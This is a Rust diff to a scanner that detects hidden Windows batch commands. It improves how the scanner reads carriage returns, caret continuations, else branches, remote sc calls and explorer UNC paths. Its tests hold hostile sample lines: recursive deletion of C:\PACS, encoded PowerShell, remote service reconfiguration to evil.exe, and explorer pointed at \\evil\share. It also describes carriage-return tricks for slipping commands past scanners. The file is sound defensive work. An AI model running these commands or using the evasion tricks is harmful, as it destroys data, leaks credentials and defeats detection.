@@ -608,6 +608,19 @@ fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool) -> bool {
         || runs_subcommand(tool, after, chance_bytes)
         || quoted_title
         || names_program_or_url(token)
+        || (tool == b"explorer" && names_remote_host(token))
+}
+
+/// Whether `token` is a UNC path naming a remote host (`\\evil\share`, quoted or not):
+/// Explorer opening one connects to the host over SMB with the user's credentials (the
+/// credential leak issue 10 names for a PDF's GoToR to a UNC path; review of session
+/// 37). A local device path (`\\.\`, `\\?\`) names none.
+fn names_remote_host(token: &[u8]) -> bool {
+    let token = token.strip_prefix(b"\"").unwrap_or(token);
+    token
+        .strip_prefix(b"\\\\")
+        .and_then(|host| host.first())
+        .is_some_and(u8::is_ascii_alphanumeric)
 }
 
 /// Whether the arguments of `tool` in `after` hold a switch it takes ([`switch_words`]).
@@ -715,6 +728,16 @@ fn without_carets(rest: &[u8]) -> Vec<u8> {
     let mut escaped = false;
     let mut after_redirection = false;
     for &b in line {
+        // cmd.exe deleted every CR before it read the line (a view holds one only before
+        // a line feed, a caret's continuation among them: `^<CR><LF>`).
+        if b == b'\r' {
+            continue;
+        }
+        // A caret last on a line joins the next, whose first byte is taken as written
+        // (`rd C:\PACS ^<LF>/s /q`: the switches are rd's).
+        if b == b'\n' && escaped {
+            continue;
+        }
         // `>&1`, `<&0`: the `&` of a handle's redirection is no operator.
         let duplicates_handle = std::mem::replace(
             &mut after_redirection,
@@ -796,9 +819,12 @@ fn leading_argument_spans(rest: &[u8], chance_bytes: bool) -> impl Iterator<Item
                 if b == b'"' {
                     quoted = !quoted;
                 }
-                matches!(b, b'\r' | b'\n' | CTRL_Z)
+                // A CR (one cmd.exe deleted, left only before a line feed) ends no
+                // quoted word (review of session 37, A3: `"a&b<CR>" /c x`).
+                matches!(b, b'\n' | CTRL_Z)
                     || (!quoted
-                        && (is_token_delimiter(b) || matches!(b, b'&' | b'|' | b'<' | b'>')))
+                        && (is_token_delimiter(b)
+                            || matches!(b, b'\r' | b'&' | b'|' | b'<' | b'>')))
             })
             .unwrap_or(word.len());
         from = start + end;
@@ -4111,14 +4137,130 @@ fn ends_word(b: u8) -> bool {
     is_token_delimiter(b) || is_command_end(b) || matches!(b, b'\r' | b'<' | b'>')
 }
 
-/// How many bytes of `rest` its command holds before the byte that ends it
-/// ([`is_command_end`]), or all of them.
+/// How many bytes of `rest` its command holds before the byte that ends it, as cmd.exe
+/// reads it ([`command_extent`]), or all of them.
 fn command_len(rest: &[u8]) -> usize {
-    // One pass for the four bytes: a `memchr3` of three of them first ran past every
-    // candidate the fourth starts, to the file's end from each (quadratic).
-    rest.iter()
-        .position(|&b| is_command_end(b))
-        .unwrap_or(rest.len())
+    command_extent(rest).end
+}
+
+/// Where the command at the start of some bytes ends, as cmd.exe reads it
+/// ([`command_extent`]).
+struct Extent {
+    /// The index of the byte that ends it (a line feed, a Ctrl-Z, an operator), or
+    /// where the read stopped.
+    end: usize,
+    /// The bytes of its view: to that byte, kept (where the next candidate starts).
+    view_end: usize,
+    /// Whether a carriage return stands inside it, not only before a line feed.
+    crs_inside: bool,
+    /// The bound of the read reached before the command's end, if one was.
+    limit: Option<ViewLimit>,
+}
+
+/// A bound [`command_extent`] reached before a command's end: the rest of the command
+/// is not known, said as a `not-inspected` warning.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum ViewLimit {
+    /// More lines joined by a caret than [`MAX_BATCH_NAME_CONTINUATIONS`].
+    Continuations,
+    /// More separators read past than [`MAX_CMD_PASSED_SEPARATORS`].
+    Separators,
+    /// More bytes than [`MAX_CMD_LINE_RAW_BYTES`].
+    RawBytes,
+}
+
+impl ViewLimit {
+    fn said(self) -> &'static str {
+        match self {
+            ViewLimit::Continuations => {
+                "runs on over more lines joined by a caret than the 16 read (MAX_BATCH_NAME_CONTINUATIONS)"
+            }
+            ViewLimit::Separators => {
+                "holds more quoted or escaped separators (`\"a&b\"`, `^&`, `2>&1`) than the 32 read past (MAX_CMD_PASSED_SEPARATORS)"
+            }
+            ViewLimit::RawBytes => {
+                "runs past the 1 MiB read of one command, carriage returns included (MAX_CMD_LINE_RAW_BYTES)"
+            }
+        }
+    }
+}
+
+/// Where the command at the start of `rest` ends, decided on the line as cmd.exe reads
+/// it (review of session 37, A1 and A3): its carriage returns deleted first, then an
+/// operator (`&`, `|`) outside quotes and not escaped by a caret, and no `&` right after
+/// a redirection's `<` or `>` (`2>&1`, `2><CR>&1` too: the handle it duplicates), a
+/// line feed not escaped (a caret last on a line joins the next, whose first byte is
+/// taken as written), or a Ctrl-Z. No more than cmd.exe reads of a line
+/// ([`CMD_LINE_LIMIT`], counted without the CRs), nor than
+/// [`MAX_CMD_LINE_RAW_BYTES`], [`MAX_BATCH_NAME_CONTINUATIONS`] lines and
+/// [`MAX_CMD_PASSED_SEPARATORS`] separators read past (each starts a candidate of its
+/// own whose view runs on: the bound keeps every byte in a bounded number of views).
+fn command_extent(rest: &[u8]) -> Extent {
+    let mut quoted = false;
+    let mut escaped = false;
+    let mut after_redirection = false;
+    let mut pending_cr = false;
+    let mut crs_inside = false;
+    let mut kept = 0usize;
+    let mut continuations = 0usize;
+    let mut passed = 0usize;
+    let stop = |end: usize, view_end: usize, crs_inside: bool, limit: Option<ViewLimit>| Extent {
+        end,
+        view_end,
+        crs_inside,
+        limit,
+    };
+    for (at, &b) in rest.iter().enumerate() {
+        if at == MAX_CMD_LINE_RAW_BYTES {
+            return stop(at, at, crs_inside, Some(ViewLimit::RawBytes));
+        }
+        if b == b'\r' {
+            pending_cr = true;
+            continue;
+        }
+        // Past cmd.exe's line limit: no part of the command.
+        if kept == CMD_LINE_LIMIT {
+            return stop(at, at, crs_inside, None);
+        }
+        kept += 1;
+        // (An empty line after one is an escaped line feed: it joins the line after it
+        // too, as a program's name is read, `p^<LF><LF>owershell`.)
+        if b == b'\n' && escaped {
+            // A caret's line continuation: the next line's first byte is escaped.
+            pending_cr = false;
+            if continuations == MAX_BATCH_NAME_CONTINUATIONS {
+                return stop(at, at + 1, crs_inside, Some(ViewLimit::Continuations));
+            }
+            continuations += 1;
+            continue;
+        }
+        if b == b'\n' || b == CTRL_Z {
+            return stop(at, at + 1, crs_inside, None);
+        }
+        crs_inside |= pending_cr;
+        pending_cr = false;
+        let duplicates_handle = std::mem::replace(&mut after_redirection, false);
+        if escaped {
+            escaped = false;
+            continue;
+        }
+        match b {
+            b'"' => quoted = !quoted,
+            b'^' if !quoted => escaped = true,
+            b'<' | b'>' if !quoted => after_redirection = true,
+            b'&' | b'|' if !quoted && (b == b'|' || !duplicates_handle) => {
+                return stop(at, at + 1, crs_inside, None);
+            }
+            b'&' | b'|' => {
+                passed += 1;
+                if passed > MAX_CMD_PASSED_SEPARATORS {
+                    return stop(at, at + 1, crs_inside, Some(ViewLimit::Separators));
+                }
+            }
+            _ => {}
+        }
+    }
+    stop(rest.len(), rest.len(), crs_inside, None)
 }
 
 /// `rest` to its command's end, the byte that ends it kept (where the next candidate
@@ -4210,7 +4352,31 @@ fn batch_command_at(
     }
     // `call`, `if`, `for`: a command word before the program, which chance bytes do not
     // spell (see [`truly_bare`]).
-    command_at(bytes, at, &line, skip, variables, in_block, binary, keyword)
+    let found = command_at(bytes, at, &line, skip, variables, in_block, binary, keyword);
+    match (found, line.limit) {
+        (Some(found), _) if !by_chance(&found) => Some(found),
+        // What cmd.exe reads past the bound is not known: never silence.
+        (found, Some(limit)) => {
+            let past = at + line.offset(line.text.len());
+            Some(Command {
+                offset: at,
+                interpreter: "batch",
+                severity: Severity::Warning,
+                kind: FindingKind::NotInspected,
+                detail: format!(
+                    "a Windows command line (\"{}\") that {}, up to offset {past}: what cmd.exe reads of it past there{}, and the batch commands after it, were not inspected",
+                    line_excerpt(bytes, at),
+                    limit.said(),
+                    if found.is_some() {
+                        " (its start is a bare name alone on its line, as chance bytes make one)"
+                    } else {
+                        ""
+                    },
+                ),
+            })
+        }
+        (found, None) => found,
+    }
 }
 
 /// A command as cmd.exe reads it: every carriage return deleted, which it does once `%`
@@ -4218,16 +4384,18 @@ fn batch_command_at(
 /// operators, redirections, `call`, `if`, `for /f`, `set`: phase 1.5 of its parser in
 /// the analyses of it; session 35: `r<CR>d /s /q C:\x` is `rd /s /q C:\x`; session
 /// 37: `fo<CR>r /f`, `s<CR>et p=…`, `"ev<CR>il.exe"`, `c<CR>all x`). Read once per
-/// candidate and by every rule. A command holding no carriage return but those before
-/// its line feed is the bytes as they are, to the file's end as before; one holding one
-/// inside is a copy without them, bounded: to the command's end (a line feed, a Ctrl-Z
-/// or an operator, kept, where the next candidate starts), on over the lines a caret
-/// ending a line joins to it (at most [`MAX_BATCH_NAME_CONTINUATIONS`]), and no more
-/// than cmd.exe reads of a line ([`CMD_LINE_LIMIT`]), so each byte is copied for a
-/// bounded number of commands (a file of `&a<CR>` repeated would otherwise be copied to
-/// its end once per command). A binary value's start, a candidate of its own, is read to
-/// the value's end at most ([`search_batch`]). Left open: an operator inside quotes or
-/// escaped (`^&`) ends the copy there.
+/// candidate and by every rule, to the command's end as cmd.exe finds it on the line
+/// without its CRs ([`command_extent`], session 38: an operator outside quotes and not
+/// escaped, never the `&` of `2><CR>&1`; a line feed no caret escapes, over at most
+/// [`MAX_BATCH_NAME_CONTINUATIONS`] continued lines; no more than cmd.exe reads of a line,
+/// [`CMD_LINE_LIMIT`] counted without the CRs), the byte that ends it kept (where the
+/// next candidate starts). A command holding no carriage return but those before a line
+/// feed is the bytes as they are; one holding one inside is a copy without them. Each
+/// byte is read for a bounded number of commands: the raw bytes of one are bounded by
+/// [`MAX_CMD_LINE_RAW_BYTES`], the separators it reads past by
+/// [`MAX_CMD_PASSED_SEPARATORS`] (each a candidate of its own), and reaching either is a
+/// `not-inspected` warning ([`ViewLimit`]). A binary value's start, a candidate of its
+/// own, is read to the value's end at most ([`search_batch`]).
 ///
 /// cmd.exe deletes them after `%` expansion, this view before it: a variable's name
 /// with a CR inside (`%p<CR>x%`) is read as `%px%` (a value set never holds one: its
@@ -4238,47 +4406,27 @@ struct CmdLine<'b> {
     /// Where carriage returns were deleted: the index in `text` of the byte after them,
     /// and how many were deleted up to there, ascending.
     deleted: Vec<(usize, usize)>,
+    /// The bound reached before the command's end, if one was ([`command_extent`]).
+    limit: Option<ViewLimit>,
 }
 
 impl<'b> CmdLine<'b> {
     fn read(line: &'b [u8]) -> Self {
-        let limited = &line[..line.len().min(CMD_LINE_LIMIT)];
-        let mut end = 0;
-        let mut inside = false;
-        for _ in 0..=MAX_BATCH_NAME_CONTINUATIONS {
-            let rest = &limited[end..];
-            let len = command_len(rest);
-            #[cfg(test)]
-            tests::CARRIAGE_READ.with(|n| n.set(n.get() + len + 1));
-            // The CRs before a line's end are no join: CRLF, or a caret's continuation.
-            let body = &rest[..len];
-            let kept = body.len() - body.iter().rev().take_while(|&&b| b == b'\r').count();
-            inside |= memchr::memchr(b'\r', &body[..kept]).is_some();
-            end += (len + 1).min(rest.len());
-            if rest.get(len) != Some(&b'\n') {
-                break;
-            }
-            // An odd number of carets last on the line, its CRs deleted, joins the next.
-            let carets = body[..kept]
-                .iter()
-                .rev()
-                .filter(|&&b| b != b'\r')
-                .take_while(|&&b| b == b'^')
-                .count();
-            if carets % 2 == 0 {
-                break;
-            }
-        }
-        if !inside {
+        let extent = command_extent(line);
+        #[cfg(test)]
+        tests::CARRIAGE_READ.with(|n| n.set(n.get() + extent.view_end + 1));
+        let view = &line[..extent.view_end];
+        if !extent.crs_inside {
             return CmdLine {
-                text: std::borrow::Cow::Borrowed(line),
+                text: std::borrow::Cow::Borrowed(view),
                 deleted: Vec::new(),
+                limit: extent.limit,
             };
         }
-        let mut text = Vec::with_capacity(end);
+        let mut text = Vec::with_capacity(view.len());
         let mut deleted: Vec<(usize, usize)> = Vec::new();
         let mut gone = 0;
-        for &b in &limited[..end] {
+        for &b in view {
             if b == b'\r' {
                 gone += 1;
                 continue;
@@ -4291,6 +4439,7 @@ impl<'b> CmdLine<'b> {
         CmdLine {
             text: std::borrow::Cow::Owned(text),
             deleted,
+            limit: extent.limit,
         }
     }
 
@@ -4457,6 +4606,22 @@ fn command_at(
 /// The most characters of a line cmd.exe reads (Microsoft's "Command prompt line
 /// string limitation": 8,191): what lies past it is no part of the command.
 const CMD_LINE_LIMIT: usize = 8191;
+
+/// The most bytes read for one command, its carriage returns included: cmd.exe deletes
+/// them before it counts a line's characters ([`CMD_LINE_LIMIT`] counts what is left),
+/// so `r`, 9,000 CRs, `d /s /q x` is `rd /s /q x` to it (review of session 37, A4). A
+/// command whose bytes run past this bound before its end is a `not-inspected` warning
+/// naming it. No chance line reaches it: it takes over a million CRs with no line feed.
+pub const MAX_CMD_LINE_RAW_BYTES: usize = 1 << 20;
+
+/// The most separators (`&`, `|`) one command's view reads past as bytes of the command
+/// (quoted, escaped by a caret, or the `&` of a handle's redirection, `2>&1`): each is
+/// also the start of a candidate whose own view runs on, so `"&^"` repeated would
+/// otherwise read a whole line from each of its `&` (quadratic). A command running past
+/// this many is a `not-inspected` warning naming it; by chance a view needs a quote and
+/// then this many separators before the next quote or line feed, about (2/5)^32 a
+/// candidate in uniform bytes.
+pub const MAX_CMD_PASSED_SEPARATORS: usize = 32;
 
 /// Whether a bare name alone on its line, written `name`, is as chance bytes make it:
 /// what cmd.exe skips before it holds no command word (`keyword`:
@@ -4645,9 +4810,17 @@ fn runs_subcommand(tool: &[u8], rest: &[u8], chance_bytes: bool) -> bool {
         return false;
     };
     // The first argument cmd.exe hands over, past any redirection (`net >nul user`).
-    let Some(first) = leading_arguments(rest, chance_bytes).next() else {
+    let mut arguments = leading_arguments(rest, chance_bytes);
+    let Some(mut first) = arguments.next() else {
         return false;
     };
+    // `sc \\host config …`: a remote host's name comes first (review of session 37).
+    if tool == b"sc" && first.starts_with(b"\\\\") {
+        let Some(next) = arguments.next() else {
+            return false;
+        };
+        first = next;
+    }
     subcommands
         .iter()
         .any(|sub| first.eq_ignore_ascii_case(sub))
@@ -4682,6 +4855,7 @@ struct ProgramStart {
 fn program_start_and_set_command(line: &[u8]) -> ProgramStart {
     let mut set_command = None;
     let mut keyword = false;
+    let mut else_looked = false;
     let delimiter = |b: &u8| is_token_delimiter(*b) || matches!(b, b'\r' | b'@' | b'(');
     // A word also ends at an operator or the line's end, where the next candidate
     // starts; the command's extent is only looked for after `if` and `for`.
@@ -4722,7 +4896,16 @@ fn program_start_and_set_command(line: &[u8]) -> ProgramStart {
         } else if word.eq_ignore_ascii_case(b"if") {
             // A condition cmd.exe cannot read is a syntax error: nothing runs.
             match past_if_condition(command(), word_end) {
-                Some(body) => at = body,
+                Some(body) => {
+                    // The `else` branch of the first `if` is a command of its own
+                    // (`if 1==2 (echo) else rd /s /q C:\PACS`, review of session 37),
+                    // judged as a `for /f` set is; once a candidate: linear.
+                    if !else_looked {
+                        else_looked = true;
+                        set_command = set_command.or_else(|| else_branch(command(), body));
+                    }
+                    at = body;
+                }
                 None => return done,
             }
         } else if word.eq_ignore_ascii_case(b"for") {
@@ -4737,6 +4920,45 @@ fn program_start_and_set_command(line: &[u8]) -> ProgramStart {
         }
         keyword = true;
     }
+}
+
+/// Where the command of an `if`'s `else` starts in `command`, when the `if`'s body
+/// (at `body`) is a `(` block followed by `else`: cmd.exe takes an `else` only after a
+/// block's `)` (outside quotes, not escaped), on the same line. A block over several
+/// lines is not followed here.
+fn else_branch(command: &[u8], body: usize) -> Option<usize> {
+    let rest = command.get(body..)?;
+    let open = rest.iter().position(|&b| !is_token_delimiter(b))?;
+    if rest[open] != b'(' {
+        return None;
+    }
+    let (mut depth, mut quoted, mut escaped) = (0usize, false, false);
+    let mut close = None;
+    for (i, &b) in rest[open..].iter().enumerate() {
+        if std::mem::take(&mut escaped) {
+            continue;
+        }
+        match b {
+            b'"' => quoted = !quoted,
+            b'^' if !quoted => escaped = true,
+            b'(' if !quoted => depth += 1,
+            b')' if !quoted => {
+                depth = depth.saturating_sub(1);
+                if depth == 0 {
+                    close = Some(open + i + 1);
+                    break;
+                }
+            }
+            _ => {}
+        }
+    }
+    let after = &rest[close?..];
+    let word = after.iter().position(|&b| !is_token_delimiter(b))?;
+    let keyword = after.get(word..word + 4)?;
+    let next = after.get(word + 4).copied();
+    (keyword.eq_ignore_ascii_case(b"else")
+        && next.is_some_and(|b| is_token_delimiter(b) || b == b'('))
+    .then(|| body + (rest.len() - after.len()) + word + 4)
 }
 
 /// Past the condition of an `if` whose keyword ends at `from`: `[/i] [not]` then
@@ -5548,7 +5770,8 @@ mod tests {
             "{}",
             found.detail
         );
-        let continued = [b"x\r^\r\n".repeat(8), b"\r\n".to_vec()].concat();
+        // (An empty line after the last would join the next block: `y` ends each.)
+        let continued = [b"x\r^\r\n".repeat(8), b"y\r\n".to_vec()].concat();
         for (unit, per_byte) in [
             (&continued[..], 9 + 1),
             (&b"&a\r"[..], 2),
@@ -7485,6 +7708,223 @@ mod slash_in_prose_tests {
             assert_eq!(
                 found_in_text(line).map(|c| c.severity),
                 Some(Severity::Alert),
+                "{:?}",
+                String::from_utf8_lossy(line)
+            );
+        }
+    }
+}
+
+/// Issue 10, session 38 (review of session 37, r38-screen): where a command ends is
+/// decided on the line as cmd.exe reads it, its carriage returns deleted first, with its
+/// quotes, carets and handle redirections (`2>&1`) read: a CR between `>` and `&`, or a
+/// quoted or escaped `&` with a CR near it, ended the view there and hid the command.
+#[cfg(test)]
+mod command_end_tests {
+    use super::*;
+
+    fn severity(line: &[u8], binary: bool) -> Option<Severity> {
+        found(line, binary).map(|found| found.severity)
+    }
+
+    fn found(line: &[u8], binary: bool) -> Option<Command> {
+        let bytes = [&b"\x80\x81x\r\n"[..], line].concat();
+        let whole = 0..bytes.len();
+        let ranges: &[std::ops::Range<usize>] = if binary {
+            std::slice::from_ref(&whole)
+        } else {
+            &[]
+        };
+        find_batch_command_within(&bytes, ranges, &crate::budget::Clock::default())
+    }
+
+    fn assert_alerts(lines: &[&[u8]]) {
+        for &line in lines {
+            for binary in [false, true] {
+                assert_eq!(
+                    severity(line, binary),
+                    Some(Severity::Alert),
+                    "{:?} (binary: {binary})",
+                    String::from_utf8_lossy(&line[..line.len().min(80)])
+                );
+            }
+        }
+    }
+
+    /// A1: the `&` of a handle's redirection (`2>&1`) is no operator, a CR between the
+    /// `>` and it included: cmd.exe deletes the CR, then reads `2>&1`.
+    #[test]
+    fn a_carriage_return_inside_a_handle_redirection_hides_no_command() {
+        assert_alerts(&[
+            b"2>\r&1 powershell -enc SQBFAFgA\r\n",
+            b"2>\r&1 C:\\Users\\Public\\evil.exe\r\n",
+            b">n\rul 2>\r&1 rd C:\\PACS /s /q\r\n",
+            b"2>&1 r\rd C:\\PACS /s /q\r\n",
+            b"2>\r\r&\r1 rd C:\\PACS /s /q\r\n",
+            b"rd C:\\PACS 2>\r&1 /s /q\r\n",
+        ]);
+        // The CR-free forms, as before.
+        assert_alerts(&[
+            b"2>&1 powershell -enc SQBFAFgA\r\n",
+            b">nul 2>&1 rd C:\\PACS /s /q\r\n",
+        ]);
+    }
+
+    /// A3: a quoted or escaped `&` is a byte of an argument, a CR before or after it too.
+    #[test]
+    fn a_quoted_or_escaped_operator_near_a_carriage_return_ends_nothing() {
+        assert_alerts(&[
+            b"rd \"C:\\A&B\" C:\\P\rACS /s /q\r\n",
+            b"cmd \"a&b\r\" /c calc.exe\r\n",
+            b"cmd \"a\r&b\" /c calc.exe\r\n",
+            b"rd C:\\A^&B C:\\P\rACS /s /q\r\n",
+            b"rd C:\\A^\r&B C:\\PACS /s /q\r\n",
+            b"rd \"C:\\A|B\" C:\\P\rACS /s /q\r\n",
+        ]);
+    }
+
+    /// A4: cmd.exe's line limit counts what it reads, its CRs deleted: 9,000 CRs inside
+    /// a name hide nothing.
+    #[test]
+    fn carriage_returns_count_nothing_towards_cmds_line_limit() {
+        let line = [&b"r"[..], &vec![b'\r'; 9_000], b"d /s /q C:\\PACS\r\n"].concat();
+        assert_alerts(&[&line]);
+    }
+
+    /// A4: the raw bytes read for one command are bounded (MAX_CMD_LINE_RAW_BYTES): past
+    /// it, a warning naming the bound, never silence.
+    #[test]
+    fn a_command_past_the_raw_bytes_read_is_a_warning() {
+        let line = [
+            &b"r"[..],
+            &vec![b'\r'; MAX_CMD_LINE_RAW_BYTES],
+            b"d /s /q C:\\PACS\r\n",
+        ]
+        .concat();
+        for binary in [false, true] {
+            let found = found(&line, binary).expect("a warning");
+            assert_eq!(found.severity, Severity::Warning);
+            assert_eq!(found.kind, FindingKind::NotInspected);
+            assert!(
+                found.detail.contains("MAX_CMD_LINE_RAW_BYTES"),
+                "{}",
+                found.detail
+            );
+        }
+    }
+
+    /// A caret last on a line joins the next to it: the arguments there are the
+    /// command's (cmd.exe reads them so).
+    #[test]
+    fn arguments_continued_by_a_caret_are_read() {
+        assert_alerts(&[
+            b"rd C:\\PACS ^\n/s /q\r\n",
+            b"rd C:\\PACS ^\r\n/s /q\r\n",
+            b"rd C:\\PACS ^\r\n/s ^\r\n/q\r\n",
+            b"cmd ^\n/c calc.exe\n",
+        ]);
+    }
+
+    /// Every read stays linear: a line of `2>&` repeated (each `&` a candidate whose
+    /// command runs on past it), `"&^"` (quotes opened and closed so that every `&` is
+    /// quoted to the commands before it) and `2>\r&` are read a bounded number of
+    /// times per byte; each view stops at MAX_CMD_PASSED_SEPARATORS, a warning.
+    #[test]
+    fn separators_read_past_are_bounded_and_linear() {
+        for unit in [&b"2>&"[..], b"\"&^\"", b"2>\r&", b"rd \"&\r"] {
+            let bytes = unit.repeat((1 << 18) / unit.len());
+            tests::CARRIAGE_READ.with(|n| n.set(0));
+            let started = std::time::Instant::now();
+            let found = find_batch_command(&bytes);
+            let read = tests::CARRIAGE_READ.with(|n| n.get());
+            assert!(
+                read <= (MAX_CMD_PASSED_SEPARATORS + 2) * bytes.len(),
+                "{unit:?}: {read} bytes read for a file of {}",
+                bytes.len()
+            );
+            assert!(
+                started.elapsed() < std::time::Duration::from_secs(20),
+                "{unit:?}: {:?}",
+                started.elapsed()
+            );
+            if let Some(found) = found {
+                assert_eq!(found.kind, FindingKind::NotInspected, "{unit:?}");
+                assert!(
+                    found.detail.contains("MAX_CMD_PASSED_SEPARATORS"),
+                    "{unit:?}: {}",
+                    found.detail
+                );
+            }
+        }
+        // Within the bound, a quoted separator hides nothing.
+        let quoted = [
+            &b"rd \""[..],
+            &b"&".repeat(MAX_CMD_PASSED_SEPARATORS),
+            b"\" C:\\P\rACS /s /q\r\n",
+        ]
+        .concat();
+        assert_alerts(&[&quoted]);
+        // Past it, a warning.
+        let past = [
+            &b"rd \""[..],
+            &b"&".repeat(MAX_CMD_PASSED_SEPARATORS + 1),
+            b"\" C:\\P\rACS /s /q\r\n",
+        ]
+        .concat();
+        assert_eq!(severity(&past, false), Some(Severity::Warning));
+    }
+}
+
+/// Issue 10, review of session 37 (session 38, r38-screen): commands cmd.exe runs that
+/// no CR hides, missed: the `else` branch of an `if`, `sc` given a remote host before its
+/// subcommand, and `explorer` given a UNC path (it connects to the host with the user's
+/// credentials, as a PDF's GoToR to a UNC path does: issue 10 names it a credential leak).
+#[cfg(test)]
+mod branch_and_host_tests {
+    use super::*;
+
+    fn severity(line: &[u8], binary: bool) -> Option<Severity> {
+        let bytes = [&b"\x80\x81x\r\n"[..], line].concat();
+        let whole = 0..bytes.len();
+        let ranges: &[std::ops::Range<usize>] = if binary {
+            std::slice::from_ref(&whole)
+        } else {
+            &[]
+        };
+        find_batch_command_within(&bytes, ranges, &crate::budget::Clock::default())
+            .map(|found| found.severity)
+    }
+
+    #[test]
+    fn an_else_branch_a_remote_sc_and_explorer_on_a_unc_path_are_commands() {
+        for line in [
+            &b"if 1==2 (echo) else rd /s /q C:\\PACS\r\n"[..],
+            b"if 1==2 (echo x) ELSE (rd /s /q C:\\PACS)\r\n",
+            b"if exist x (echo \"a)\") else powershell -enc SQBFAFgA\r\n",
+            b"if 1==2 (if 2==3 (echo) else echo) else rd /s /q C:\\PACS\r\n",
+            b"sc \\\\host config x binpath= C:\\evil.exe\r\n",
+            b"sc \\\\10.0.0.5 create x binpath= C:\\evil.exe\r\n",
+            b"explorer \\\\evil\\share\r\n",
+            b"explorer \\\\10.0.0.5@80\\x\r\n",
+        ] {
+            for binary in [false, true] {
+                assert_eq!(
+                    severity(line, binary),
+                    Some(Severity::Alert),
+                    "{:?} (binary: {binary})",
+                    String::from_utf8_lossy(line)
+                );
+            }
+        }
+        // Prose and a local device path are none.
+        for line in [
+            &b"if you like (see above) else we go on\r\n"[..],
+            b"explorer \\\\.\\pipe\r\n",
+            b"sc \\\\host is down\r\n",
+        ] {
+            assert_eq!(
+                severity(line, false),
+                None,
                 "{:?}",
                 String::from_utf8_lossy(line)
             );
